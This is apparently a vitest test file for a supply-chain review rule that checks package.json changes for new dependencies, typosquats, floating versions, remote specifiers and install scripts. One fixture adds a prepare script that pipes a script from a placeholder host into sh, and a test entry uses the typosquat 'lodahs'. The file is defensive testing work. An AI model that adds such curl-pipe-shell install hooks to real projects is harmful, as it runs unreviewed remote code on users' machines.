import { describe, expect, it } from "vitest";
import { json, runOnContents } from "./manifest-fixture.ts";

const BASE = json({
  name: "client",
  scripts: { test: "mocha", prepare: "husky install" },
  dependencies: { "follow-redirects": "^1.15.0", "form-data": "^4.0.0" },
  devDependencies: { mocha: "^10.0.0", chalk: "^5.0.0", "left-pad": "git+https://github.com/a/left-pad.git" },
});

describe("dependencies on parsed package.json (base and head)", () => {
  it("reports every added package, even when other lines of the file change too", async () => {
    const head = json({
      name: "client",
      scripts: { test: "mocha --exit", prepare: "husky install" },
      dependencies: { "follow-redirects": "^1.15.0", "form-data": "^4.0.0" },
      devDependencies: {
        mocha: "^10.0.0",
        chalk: "^5.0.0",
        "left-pad": "git+https://github.com/a/left-pad.git",
        "dev-null": "^0.1.1",
        gulp: "^4.0.2",
        "stream-throttle": "^0.1.3",
        "gulp-bump": "^3.2.0",
        "abortcontroller-polyfill": "^1.7.3",
        "karma-chrome-launcher": "^3.1.1",
        "@rollup/plugin-json": "^4.1.0",
        "es6-promise": "^4.2.8",
        sinon: "^14.0.0",
      },
    });
    const findings = await runOnContents([{ path: "package.json", base: BASE, head }]);
    expect(findings.map((f) => f.ruleId)).toEqual(["dependencies/new"]);
    expect(findings[0]?.title).toBe("9 new dependencies in package.json");
    for (const name of ["dev-null", "gulp", "stream-throttle", "sinon", "@rollup/plugin-json"]) {
      expect(findings[0]?.message).toContain(`\`${name}@`);
    }
    // The line points at the first new entry in the head file, so it can be anchored.
    expect(findings[0]?.line).toBe(head.split("\n").findIndex((l) => l.includes('"dev-null"')) + 1);
    expect(findings[0]?.riskFloor).toBe(20);
  });

  it("flags a typosquat next to a real package although a script line changed in the same file", async () => {
    const head = BASE.replace('"test": "mocha"', '"test": "mocha --exit"').replace(
      '"form-data": "^4.0.0"',
      '"form-data": "^4.0.0",\n    "lodahs": "^4.17.21"',
    );
    const findings = await runOnContents([{ path: "package.json", base: BASE, head }]);
    expect(findings.map((f) => [f.ruleId, f.line])).toEqual([
      ["dependencies/typosquat", 10],
      ["dependencies/new", 10],
    ]);
    expect(findings[0]?.title).toContain("lodahs (vs lodash)");
    expect(findings[1]?.riskFloor).toBe(25);
  });

  it("flags moves to runtime, widened ranges, new git and file specifiers, and changed install scripts", async () => {
    const head = json({
      name: "client",
      scripts: {
        test: "mocha",
        prepare: "curl -s https://x.example/p.sh | sh",
        postinstall: "node setup.js",
      },
      dependencies: {
        "follow-redirects": "*",
        "form-data": "latest",
        chalk: "^5.0.0",
        local: "file:../local",
      },
      devDependencies: {
        mocha: "github:mochajs/mocha#main",
        "left-pad": "git+https://github.com/a/left-pad.git",
      },
    });
    const findings = await runOnContents([{ path: "package.json", base: BASE, head }]);
    expect(findings.map((f) => f.ruleId).sort()).toEqual([
      "dependencies/floating-version",
      "dependencies/floating-version",
      "dependencies/install-script",
      "dependencies/install-script",
      "dependencies/moved-to-runtime",
      "dependencies/new",
      "dependencies/remote-specifier",
      "dependencies/remote-specifier",
    ]);
    const titles = findings.map((f) => f.title);
    expect(titles).toContain("Dependency range widened: follow-redirects ^1.15.0 → *");
    expect(titles).toContain("Dependency range widened: form-data ^4.0.0 → latest");
    expect(titles).toContain("Dependency moved from devDependencies to dependencies: chalk");
    expect(titles).toContain("Dependency installed from outside the registry: local");
    expect(titles).toContain("Dependency installed from outside the registry: mocha");
    // An unchanged git specifier was reviewed before: it does not fire again.
    expect(titles.join("\n")).not.toContain("left-pad");
    expect(titles).toContain("Install script added: prepare");
    expect(titles).toContain("Install script added: postinstall");
    // `prepare` does not run for registry consumers: medium; `postinstall` runs for everyone: high.
    const severityOf = (title: string) => findings.find((f) => f.title === title)?.severity;
    expect(severityOf("Install script added: prepare")).toBe("medium");
    expect(severityOf("Install script added: postinstall")).toBe("high");
    expect(findings.find((f) => f.title.endsWith("chalk"))?.line).toBe(11);
  });

  it("stays quiet on version bumps and reorderings", async () => {
    const head = json({
      name: "client",
      scripts: { prepare: "husky install", test: "mocha" },
      dependencies: { "form-data": "^4.0.1", "follow-redirects": "^1.15.6" },
      devDependencies: {
        chalk: "^5.3.0",
        mocha: "^10.0.0",
        "left-pad": "git+https://github.com/a/left-pad.git",
      },
    });
    expect(await runOnContents([{ path: "package.json", base: BASE, head }])).toEqual([]);
  });

  it("treats every package of an added package.json as new", async () => {
    const findings = await runOnContents([
      { path: "examples/app/package.json", base: null, head: json({ dependencies: { express: "^5.0.0" } }) },
    ]);
    expect(findings.map((f) => [f.ruleId, f.title, f.line])).toEqual([
      ["dependencies/new", "1 new dependency in examples/app/package.json", 3],
    ]);
  });

  it("names the dependency files the collector could only check from the diff", async () => {
    const findings = await runOnContents([
      {
        path: "package-lock.json",
        base: null,
        head: null,
        skipped: "3,000,000 bytes at abc1234, over the limit",
      },
      { path: "package.json", base: BASE, head: BASE },
    ]);
    expect(findings.map((f) => [f.ruleId, f.severity, f.riskFloor])).toEqual([
      ["dependencies/read-from-diff-only", "info", 0],
    ]);
    expect(findings[0]?.message).toContain(
      "`package-lock.json` (3,000,000 bytes at abc1234, over the limit)",
    );
  });

  it("falls back to the diff when a side does not parse", async () => {
    const findings = await runOnContents([{ path: "package.json", base: BASE, head: "{ not json" }]);
    expect(findings).toEqual([]);
  });
});
